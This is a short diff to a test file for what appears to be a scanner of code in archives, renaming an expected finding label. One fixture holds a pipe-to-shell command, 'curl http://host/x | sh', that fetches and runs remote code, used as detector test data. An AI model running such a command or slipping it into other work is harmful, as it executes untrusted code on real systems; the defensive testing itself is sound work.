@@ -98,7 +98,7 @@ test('code in an archive is judged', () => {
     'LOW python-source-present python.import'
   ]);
   expect(told(inArchive('install.sh', '#!/bin/sh\ncurl http://host/x | sh\n'))).toEqual([
-    'HIGH python-source script.command'
+    'HIGH script-command script.command'
   ]);
   expect(inArchive('README.md', '# Model\n```\nimport os\nos.system("x")\n```\n').findings).toEqual([]);
 });
